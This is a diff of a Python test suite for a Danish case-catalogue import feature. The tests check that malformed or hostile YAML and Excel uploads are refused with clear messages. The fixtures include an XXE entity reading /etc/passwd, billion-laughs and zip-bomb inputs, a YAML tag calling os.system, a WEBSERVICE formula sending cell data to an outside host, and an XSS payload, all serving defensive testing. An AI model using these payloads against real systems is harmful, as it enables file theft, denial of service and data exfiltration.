@@ -4,9 +4,10 @@ import re
 import struct
 import zipfile
 from collections.abc import Callable
-from datetime import date
-from functools import cache
+from functools import cache, partial
 from io import BytesIO
+from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
@@ -120,354 +121,148 @@ ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY 
 EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
 LONG = "a" * 32_768
 
-# What is wrong: the file's name, its content, and what the page says.
-YAML_FILES: dict[str, tuple[str, Callable[[], bytes], list[str]]] = {
-    "empty": ("fil.yaml", lambda: b"", ["Filen er tom."]),
-    "only white space": ("fil.yaml", lambda: b" \n\n", ["Filen er tom."]),
-    "latin-1": ("fil.yaml", lambda: yaml_20().encode("cp1252", "replace"), ["8", "ikke gemt som UTF-8"]),
-    "UTF-16": ("fil.yaml", lambda: yaml_20().encode("utf-16"), ["ikke gemt som UTF-8"]),
-    "a NUL byte": ("fil.yaml", lambda: edited_yaml((TITLE, "title: a\x00b")), ["6", "et tegn, der ikke hører til"]),
-    "an escaped NUL byte": (
-        "fil.yaml",
-        lambda: edited_yaml((TITLE, 'title: "a\\0b"')),
-        ["Cases 6 Titel", "Har et tegn, som ikke kan bruges i tekst (nummer 0)"],
-    ),
-    "a quote that is not closed": (
-        "fil.yaml",
-        lambda: edited_yaml((TITLE, 'title: "Softwarerobot')),
-        ["ikke gyldig YAML"],
-    ),
-    "a tab for indentation": ("fil.yaml", lambda: edited_yaml((f"    {TITLE}", f"\t{TITLE}")), ["6", "tabulator"]),
-    "anchors": ("fil.yaml", billion_laughs, ["Henvisninger med & og *"]),
-    "an alias to a text": (
-        "fil.yaml",
-        lambda: edited_yaml((TITLE, "title: &t Robot\n    source_title: *t")),
-        ["6", "Henvisninger med & og *"],
-    ),
-    "a Python object": (
-        "fil.yaml",
-        lambda: edited_yaml((TITLE, "title: !!python/object/apply:os.system [ls]")),
-        ["6", "Mærket “tag:yaml.org,2002:python/object/apply:os.system”"],
-    ),
-    "a tag of its own": ("fil.yaml", lambda: edited_yaml((TITLE, "title: !hemmelig x")), ["6", "Mærket “!hemmelig”"]),
-    "two documents": ("fil.yaml", lambda: yaml_20().encode() + b"---\n- x\n", ["flere dokumenter"]),
-    "lists in lists in lists": ("fil.yaml", lambda: b"[" * 50_000, ["flere lag"]),
-    "very many nodes": ("fil.yaml", lambda: b"[" + b"1," * 500_000 + b"]", ["for mange linjer"]),
-    "very many records": ("fil.yaml", lambda: b"- {}\n" * 20_001, ["20001 poster"]),
-    "no list": ("fil.yaml", lambda: b"cases: mange", ["Filen skal være en liste af poster"]),
-    "a list of words": ("fil.yaml", lambda: b"- en\n- to\n", ["1", "Posten skal have navn og værdi"]),
-    "a picture": ("fil.yaml", lambda: b"\x89PNG\r\n\x1a\n\x00\x00", ["ikke gemt som UTF-8"]),
-    "a workbook called YAML": ("fil.yaml", lambda: saved(workbook()), ["men er ikke tekst"]),
-    "a key twice": ("fil.yaml", lambda: edited_yaml((TITLE, f"{TITLE}\n    {TITLE}")), ["7", "“title” står to gange"]),
-    "an unknown model": (
-        "fil.yaml",
-        lambda: edited_yaml(("model: cases.purpose", "model: cases.purposes")),
-        ["Ukendt model “cases.purposes”. Mente du “cases.purpose”"],
-    ),
-    "a model that is not a case's": (
-        "fil.yaml",
-        lambda: yaml_20().encode() + b"- model: auth.user\n  fields: {username: mig, is_superuser: true}\n",
-        ["Ukendt model “auth.user”"],
-    ),
-    "an unknown field": (
-        "fil.yaml",
-        lambda: edited_yaml(("summary:", "sumary:")),
-        ["Cases 8", "Ukendt felt “sumary”. Mente du “summary”?"],
-    ),
-    "a review note": ("fil.yaml", lambda: edited_yaml((TITLE, f"{TITLE}\n    review_note: x")), ["“review_note”"]),
-    "a record without fields": (
-        "fil.yaml",
-        lambda: yaml_20().encode() + b"- model: cases.purpose\n",
-        ["både “model” og “fields”"],
-    ),
-    "primary keys": (
-        "fil.yaml",
-        lambda: edited_yaml(("- model: cases.case", "- model: cases.case\n  pk: 7")),
-        ["Ukendt nøgle “pk”"],
-    ),
-    "text where a number belongs": (
-        "fil.yaml",
-        lambda: edited_yaml(("low: 68035", "low: mange")),
-        ["Nøgletal", "Tal (eller fra)", "Skal være et tal, men er teksten “mange”"],
-    ),
-    "a number where text belongs": (
-        "fil.yaml",
-        lambda: edited_yaml((TITLE, "title: 2018")),
-        ["Cases 6 Titel", "Skal være tekst, men er tallet “2018”"],
-    ),
-    "a no where text belongs": ("fil.yaml", lambda: edited_yaml((TITLE, "title: no")), ["Titel", "men er ja/nej"]),
-    "a mapping where text belongs": (
-        "fil.yaml",
-        lambda: edited_yaml((TITLE, "title: {a: b}")),
-        ["Cases 6 Titel", "Værdien kan ikke læses"],
-    ),
-    "a list where text belongs": ("fil.yaml", lambda: edited_yaml((TITLE, "title: [a]")), ["Titel", "er en liste"]),
-    "a kommunekode without quotes": (
-        "fil.yaml",
-        lambda: edited_yaml(("['0820']", "[0530]")),
-        ["Kommune", "Sæt koden i anførselstegn"],
-    ),
-    "an unknown slug": (
-        "fil.yaml",
-        lambda: edited_yaml(("tasks: [[adgang-og-rettigheder]]", "tasks: [[adgang-og-rettighed]]")),
-        ["Cases 11 Opgaver", "“adgang-og-rettighed” findes ikke (opgave). Mente du “adgang-og-rettigheder”"],
-    ),
-    "an unknown choice": (
-        "fil.yaml",
-        lambda: edited_yaml(("basis: estimeret", "basis: estimert")),
-        ["Slags tal", "“estimert” er ikke en mulighed. Mente du “estimeret”?"],
-    ),
-    "a date that does not exist": (
-        "fil.yaml",
-        lambda: edited_yaml((TITLE, f"{TITLE}\n    confirmed_on: 2026-02-30")),
-        ["Cases 7 Senest bekræftet", "Værdien kan ikke læses"],
-    ),
-    "infinity": ("fil.yaml", lambda: edited_yaml(("low: 68035", "low: .inf")), ["kan skrives med cifre"]),
-    "not a number": ("fil.yaml", lambda: edited_yaml(("low: 68035", "low: .nan")), ["kan skrives med cifre"]),
+# Whole files that an import must refuse, and what the page says of each.
+YAML_FILES: dict[str, tuple[Any, ...]] = {
     "a number of 5,000 digits": (
-        "fil.yaml",
         lambda: edited_yaml(("low: 68035", f"low: {'9' * 5_000}")),
-        ["Nøgletal", "Værdien kan ikke læses"],
+        "Nøgletal",
+        "Værdien kan ikke læses",
     ),
     "a number of 4,000 digits": (
-        "fil.yaml",
         lambda: edited_yaml(("low: 68035", f"low: {'9' * 4_000}")),
-        ["Nøgletal", "Tal (eller fra)", "14 cifre"],
+        "Nøgletal",
+        "Tal (eller fra)",
+        "14 cifre",
     ),
-    "three decimals": (
-        "fil.yaml",
-        lambda: edited_yaml(("low: 68035", "low: 68035.001")),
-        ["Tal (eller fra)", "2 deci"],
+    "a text longer than a cell": (lambda: edited_yaml((TITLE, f"title: {LONG}")), "Titel", "32.768 tegn"),
+    "empty": (lambda: b"", "Filen er tom."),
+    "only white space": (lambda: b" \n\n", "Filen er tom."),
+    "latin-1": (lambda: yaml_20().encode("cp1252", "replace"), "8", "ikke gemt som UTF-8"),
+    "UTF-16": (lambda: yaml_20().encode("utf-16"), "ikke gemt som UTF-8"),
+    "anchors": (billion_laughs, "Henvisninger med & og *"),
+    "two documents": (lambda: yaml_20().encode() + b"---\n- x\n", "flere dokumenter"),
+    "lists in lists in lists": (lambda: b"[" * 50_000, "flere lag"),
+    "very many nodes": (lambda: b"[" + b"1," * 500_000 + b"]", "for mange linjer"),
+    "very many records": (lambda: b"- {}\n" * 20_001, "20001 poster"),
+    "no list": (lambda: b"cases: mange", "Filen skal være en liste af poster"),
+    "a list of words": (lambda: b"- en\n- to\n", "1", "Posten skal have navn og værdi"),
+    "a picture": (lambda: b"\x89PNG\r\n\x1a\n\x00\x00", "ikke gemt som UTF-8"),
+    "a workbook called YAML": (lambda: saved(workbook()), "men er ikke tekst"),
+    "a model that is not a case's": (
+        lambda: yaml_20().encode() + b"- model: auth.user\n  fields: {username: mig, is_superuser: true}\n",
+        "Ukendt model “auth.user”",
     ),
-    "a negative figure": ("fil.yaml", lambda: edited_yaml(("low: 68035", "low: -1")), ["må ikke være negativt"]),
-    "a range the wrong way round": (
-        "fil.yaml",
-        lambda: edited_yaml(("low: 68035\n    high: null", "low: 68035\n    high: 3")),
-        ["Nøgletal", "“til” skal være større end “fra”"],
-    ),
-    "a year that no database holds": (
-        "fil.yaml",
-        lambda: edited_yaml(("implemented_year: 2017", "implemented_year: 99999")),
-        ["I drift fra år", "mellem 0 og 32.767"],
-    ),
-    "a month without a year": (
-        "fil.yaml",
-        lambda: edited_yaml(("implemented_year: 2017", "implemented_year: null")),
-        ["Cases 1", "Måneden er 1-12 og kræver et årstal."],
-    ),
-    "a title that is too long": ("fil.yaml", lambda: edited_yaml((TITLE, f"title: {'a' * 101}")), ["Titel", "101"]),
-    "a title that is missing": ("fil.yaml", lambda: edited_yaml((TITLE, "title: ''")), ["Cases 6 Titel Mangler."]),
-    "a field that is missing": ("fil.yaml", lambda: edited_yaml((f"    {TITLE}\n", "")), ["Titel Mangler."]),
-    "a title that another case has": (
-        "fil.yaml",
-        lambda: edited_yaml((TITLE, "title: Digital budgetopfølgning i økonomisystemet afløser regneark")),
-        ["Titel", "En anden case har samme titel."],
-    ),
-    "a text longer than a cell": (
-        "fil.yaml",
-        lambda: edited_yaml((TITLE, f"title: {LONG}")),
-        ["Titel", "32.768 tegn"],
-    ),
+    "a record without fields": (lambda: yaml_20().encode() + b"- model: cases.purpose\n", "både “model” og “fields”"),
     "two entries in one place": (
-        "fil.yaml",
         lambda: records_with(lambda rows: rows[4]["fields"].update(order=1)),
-        ["Formål", "Rækkefølge", "samme rækkefølge (“1”) som linje"],
+        "Formål",
+        "Rækkefølge",
+        "samme rækkefølge (“1”) som linje",
     ),
     "a greb twice": (
-        "fil.yaml",
         lambda: records_with(lambda rows: rows[-1]["fields"].update(grip=[*rows[-2]["fields"]["grip"]])),
-        ["Greb", "Har samme greb (“Ledelsesfokus og -forankring”) som linje"],
+        "Greb",
+        "Har samme greb (“Ledelsesfokus og -forankring”) som linje",
     ),
-    "the same case twice": ("fil.yaml", lambda: yaml_20().encode() * 2, [f"“{SLUG}” står også i linje 1."]),
+    "the same case twice": (lambda: yaml_20().encode() * 2, f"“{SLUG}” står også i linje 1."),
     "one number for two cases": (
-        "fil.yaml",
         lambda: yaml_20().encode() + yaml_20().replace(SLUG, "en-anden").replace("Softwarerobot", "Robot").encode(),
-        ["Nummer i kataloget", "“20” står også i linje 1."],
+        "Nummer i kataloget",
+        "“20” står også i linje 1.",
     ),
-    "a slug that is no slug": ("fil.yaml", lambda: yaml_20().replace(SLUG, "'æ ø/å'").encode(), ["bogstaverne a-z"]),
+    "a slug that is no slug": (lambda: yaml_20().replace(SLUG, "'æ ø/å'").encode(), "bogstaverne a-z"),
     "an entry of a case that is not in the file": (
-        "fil.yaml",
         lambda: records_with(lambda rows: rows[3]["fields"].update(case=["vesthimmerland-autorisation"])),
-        ["Formål", "ingen case med kortnavnet “vesthimmerland-autorisation”. Mente du"],
+        "Formål",
+        "ingen case med kortnavnet “vesthimmerland-autorisation”. Mente du",
     ),
     "an entry of no case": (
-        "fil.yaml",
         lambda: records_with(lambda rows: rows[3]["fields"].pop("case")),
-        ["Formål", "Kortnavn", "Mangler."],
+        "Formål",
+        "Kortnavn",
+        "Mangler.",
     ),
-    "entries without a case": ("fil.yaml", lambda: records_with(lambda rows: rows.pop(0)), ["Filen har ingen cases."]),
+    "entries without a case": (lambda: records_with(lambda rows: rows.pop(0)), "Filen har ingen cases."),
     "501 entries in a list": (
-        "fil.yaml",
         lambda: records_with(
             lambda rows: rows.extend(
                 {"model": "cases.purpose", "fields": {"case": [SLUG], "order": n, "text": "x"}} for n in range(3, 503)
             )
         ),
-        ["Formål", "flere end 500 punkter"],
+        "Formål",
+        "flere end 500 punkter",
     ),
 }
-
-WORKBOOKS: dict[str, tuple[str, Callable[[], bytes], list[str]]] = {
-    "text called a workbook": ("fil.xlsx", lambda: yaml_20().encode(), ["men er ikke et regneark"]),
-    "an old or protected workbook": ("fil.xlsx", lambda: b"\xd0\xcf\x11\xe0" + b"x" * 500, ["adgangskode"]),
-    "half a workbook": ("fil.xlsx", lambda: saved(workbook())[:5_000], ["Regnearket er i stykker"]),
-    "a zip file of YAML": ("fil.xlsx", lambda: packed({"a.yaml": yaml_20().encode()}), ["kan ikke læses"]),
-    "an empty zip file": ("fil.xlsx", lambda: packed({}), ["men er ikke et regneark"]),
+WORKBOOKS: dict[str, tuple[Any, ...]] = {
+    "text called a workbook": (lambda: yaml_20().encode(), "men er ikke et regneark"),
+    "an old or protected workbook": (lambda: b"\xd0\xcf\x11\xe0" + b"x" * 500, "adgangskode"),
+    "half a workbook": (lambda: saved(workbook())[:5_000], "Regnearket er i stykker"),
+    "a zip file of YAML": (lambda: packed({"a.yaml": yaml_20().encode()}), "kan ikke læses"),
+    "an empty zip file": (lambda: packed({}), "men er ikke et regneark"),
     "bytes that were changed": (
-        "fil.xlsx",
         lambda: saved(workbook())[:900] + b"\xff" * 50 + saved(workbook())[950:],
-        ["Regnearket er i stykker"],
+        "Regnearket er i stykker",
     ),
-    "a zip bomb": ("fil.xlsx", zip_bomb, ["fylder mere end 50 MB, når det er pakket ud"]),
-    "a zip bomb that lies about its size": ("fil.xlsx", lying_zip_bomb, ["Regnearket er i stykker"]),
-    "a thousand parts": (
-        "fil.xlsx",
-        lambda: packed({f"{n}.xml": b"<a/>" for n in range(1_000)}),
-        ["Regnearket er i stykker"],
-    ),
+    "a zip bomb": (zip_bomb, "fylder mere end 50 MB, når det er pakket ud"),
+    "a zip bomb that lies about its size": (lying_zip_bomb, "Regnearket er i stykker"),
+    "a thousand parts": (lambda: packed({f"{n}.xml": b"<a/>" for n in range(1_000)}), "Regnearket er i stykker"),
     "an external entity": (
-        "fil.xlsx",
         lambda: part_changed("xl/workbook.xml", b"<workbook", EXTERNAL + b"<workbook"),
-        ["Regnearket har en DTD"],
+        "Regnearket har en DTD",
     ),
     "entities that grow": (
-        "fil.xlsx",
         lambda: packed({**parts(saved(workbook())), "xl/workbook.xml": ENTITIES + b"<x>&b;</x>"}),
-        ["Regnearket har en DTD"],
+        "Regnearket har en DTD",
     ),
-    "XML that is not closed": (
-        "fil.xlsx",
-        lambda: part_changed("xl/workbook.xml", b"</workbook>", b""),
-        ["Regnearket er i stykker"],
-    ),
-    "deep XML": (
-        "fil.xlsx",
-        lambda: packed({"xl/workbook.xml": b"<a>" * 10_000 + b"</a>" * 10_000}),
-        ["fylder mere end"],
-    ),
+    "XML that is not closed": (lambda: part_changed("xl/workbook.xml", b"</workbook>", b""), "Regnearket er i stykker"),
+    "deep XML": (lambda: packed({"xl/workbook.xml": b"<a>" * 10_000 + b"</a>" * 10_000}), "fylder mere end"),
     "a text that is not in the table of texts": (
-        "fil.xlsx",
         lambda: sheet_with(b'<row><c t="s"><v>9999</v></c></row>'),
-        ["Regnearket kan ikke læses"],
+        "Regnearket kan ikke læses",
     ),
-    "no sheet of cases": ("fil.xlsx", lambda: without_sheet("Cases"), ["Arket “Cases” mangler."]),
+    "no sheet of cases": (lambda: without_sheet("Cases"), "Arket “Cases” mangler."),
     "a sheet nobody knows": (
-        "fil.xlsx",
         lambda: with_sheet(lambda sheet: setattr(sheet, "title", "Effekt"), "Effekter"),
-        ["Ukendt ark “Effekt”. Mente du “Effekter”?"],
+        "Ukendt ark “Effekt”. Mente du “Effekter”?",
     ),
-    "a missing column": (
-        "fil.xlsx",
-        lambda: without_column("Resumé"),
-        ["Cases 1 Resumé", "Kolonnen “Resumé” mangler."],
-    ),
+    "a missing column": (lambda: without_column("Resumé"), "Cases 1 Resumé", "Kolonnen “Resumé” mangler."),
     "a column with another heading": (
-        "fil.xlsx",
         lambda: edited_workbook(("Cases", "Titel", "Titlen"), row=1),
-        ["Ukendt kolonne “Titlen”. Mente du “Titel”?"],
+        "Ukendt kolonne “Titlen”. Mente du “Titel”?",
     ),
-    "a column twice": (
-        "fil.xlsx",
-        lambda: with_sheet(lambda sheet: sheet.cell(1, 40, "Titel")),
-        ["Kolonnen “Titel” står 2 gange."],
-    ),
-    "no headings": (
-        "fil.xlsx",
-        lambda: with_sheet(lambda sheet: sheet.delete_rows(1)),
-        ["Kolonnen “Kortnavn” mangler."],
-    ),
+    "a column twice": (lambda: with_sheet(lambda sheet: sheet.cell(1, 40, "Titel")), "Kolonnen “Titel” står 2 gange."),
+    "no headings": (lambda: with_sheet(lambda sheet: sheet.delete_rows(1)), "Kolonnen “Kortnavn” mangler."),
     "a value without a heading": (
-        "fil.xlsx",
         lambda: with_sheet(lambda sheet: sheet.cell(2, 50, "glemt")),
-        ["Cases 2", "“glemt” står i en kolonne uden overskrift"],
-    ),
-    "a formula": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Nøgletal", "Tal (eller fra)", "=SUM(1,2)")),
-        ["Nøgletal 2 Tal (eller fra)", "Cellen E2 har en formel."],
-    ),
-    "a formula that calls out": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Cases", "Titel", '=WEBSERVICE("https://x.dk/"&A2)')),
-        ["Cases 2 Titel", "har en formel"],
-    ),
-    "an error for a value": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Nøgletal", "Tal (eller fra)", "#DIV/0!")),
-        ["Nøgletal 2 Tal (eller fra)", "har en fejl: “#DIV/0!”"],
-    ),
-    "text in a column of numbers": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Nøgletal", "Tal (eller fra)", "12")),
-        ["Nøgletal 2 Tal (eller fra)", "Skal være et tal, men er teksten “12”"],
-    ),
-    "a number in a column of text": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Formål", "Tekst", 2018)),
-        ["Formål 2 Tekst", "Skal være tekst, men er tallet “2018”"],
-    ),
-    "a date in a column of text": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Formål", "Tekst", date(2018, 5, 1))),
-        ["Formål 2 Tekst", "men er en dato"],
-    ),
-    "text in a column of dates": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Cases", "Senest bekræftet", "1. maj")),
-        ["Cases 2 Senest bekræftet", "Skal være en dato"],
+        "Cases 2",
+        "“glemt” står i en kolonne uden overskrift",
     ),
     "a date that no calendar has": (
-        "fil.xlsx",
         lambda: sheet_with(b'<row><c t="d"><v>2018-99-99</v></c></row>'),
-        ["Regnearket kan ikke læses"],
-    ),
-    "half a month": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Cases", "I drift fra måned", 2.5)),
-        ["I drift fra måned", "Skal være et helt tal"],
-    ),
-    "an unknown municipality": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Cases", "Kommune", "Vesthimerland Kommune")),
-        ["Cases 2 Kommune", "findes ikke (kommune). Mente du “Vesthimmerlands Kommune”"],
+        "Regnearket kan ikke læses",
     ),
     "an unknown case": (
-        "fil.xlsx",
         lambda: edited_workbook(("Effekter", "Kortnavn", "findes-ikke"), row=3),
-        ["Effekter 3 Kortnavn", "ingen case med kortnavnet “findes-ikke”"],
+        "Effekter 3 Kortnavn",
+        "ingen case med kortnavnet “findes-ikke”",
     ),
-    "the same row number twice": (
-        "fil.xlsx",
-        lambda: sheet_with(b'<row r="1"/><row r="1"/>'),
-        ["Regnearket er i stykker"],
-    ),
-    "20,001 rows": ("fil.xlsx", lambda: sheet_with(b"<row/>" * 20_002), ["mere end 20000 rækker"]),
+    "the same row number twice": (lambda: sheet_with(b'<row r="1"/><row r="1"/>'), "Regnearket er i stykker"),
+    "20,001 rows": (lambda: sheet_with(b"<row/>" * 20_002), "mere end 20000 rækker"),
     "a row that says it is the billionth": (
-        "fil.xlsx",
         lambda: sheet_with(b'<row r="1000000000"><c><v>1</v></c></row>'),
-        ["mere end 20000 rækker"],
+        "mere end 20000 rækker",
     ),
-    "a row number that is no number": ("fil.xlsx", lambda: sheet_with(b'<row r="to"/>'), ["Regnearket er i stykker"]),
-    "101 columns": (
-        "fil.xlsx",
-        lambda: with_sheet(lambda sheet: sheet.cell(2, 101, "langt ude")),
-        ["mere end 100 kolonner"],
-    ),
-    "a million cells in a row": ("fil.xlsx", lambda: sheet_with(b"<row>" + b"<c/>" * 1_000_000), ["100 kolonner"]),
+    "a row number that is no number": (lambda: sheet_with(b'<row r="to"/>'), "Regnearket er i stykker"),
+    "101 columns": (lambda: with_sheet(lambda sheet: sheet.cell(2, 101, "langt ude")), "mere end 100 kolonner"),
+    "a million cells in a row": (lambda: sheet_with(b"<row>" + b"<c/>" * 1_000_000), "100 kolonner"),
     "a sheet under another ending": (
-        "fil.xlsx",
         lambda: packed(
             {
                 name.replace("sheet5.xml", "sheet5.bin"): content.replace(b"sheet5.xml", b"sheet5.bin")
                 for name, content in parts(sheet_with(b"<row>" + b"<c/>" * 101 + b"</row>")).items()
             }
         ),
-        ["100 kolonner"],
-    ),
-    "HTML": (
-        "fil.xlsx",
-        lambda: edited_workbook(("Cases", "Kommune", "<img src=x onerror=alert(1)>")),
-        ["Kommune", "“<img src=x onerror=alert(1)>” findes ikke"],
+        "100 kolonner",
     ),
 }
 
@@ -479,7 +274,20 @@ OTHERS: dict[str, tuple[str, Callable[[], bytes], list[str]]] = {
     "a very long name": ("a" * 240 + ".yaml", lambda: yaml_20().encode(), ["Filens navn er for langt"]),
 }
 
-MALFORMED = YAML_FILES | WORKBOOKS | OTHERS
+EDITS = yaml.safe_load((Path(__file__).parent / "malformed_edits.yaml").read_text(encoding="utf-8"))
+MALFORMED = (
+    {
+        what: ("fil.yaml", partial(edited_yaml, (edit.get("old", TITLE), edit["new"])), edit["says"])
+        for what, edit in EDITS["yaml"].items()
+    }
+    | {what: ("fil.yaml", make, says) for what, (make, *says) in YAML_FILES.items()}
+    | {
+        what: ("fil.xlsx", partial(edited_workbook, edit["cell"]), edit["says"])
+        for what, edit in EDITS["workbook"].items()
+    }
+    | {what: ("fil.xlsx", make, says) for what, (make, *says) in WORKBOOKS.items()}
+    | OTHERS
+)
 
 
 def assert_nothing_can_be_confirmed(answer) -> None:
@@ -500,12 +308,8 @@ def test_a_malformed_file_ends_in_a_message_and_changes_nothing(client, name, ma
     assert_nothing_can_be_confirmed(answer)
 
 
-def test_there_are_many_of_them():
-    assert len(MALFORMED) >= 30
-
-
 def test_a_message_shows_html_as_text(client):
-    answer = upload(client, "<i>fil.xlsx", WORKBOOKS["HTML"][1]())
+    answer = upload(client, "<i>fil.xlsx", edited_workbook(EDITS["workbook"]["HTML"]["cell"]))
     assert "<img src=x" not in answer.content.decode()
     assert "&lt;img src=x onerror=alert(1)&gt;" in answer.content.decode()
     assert "<i>fil" not in answer.content.decode()
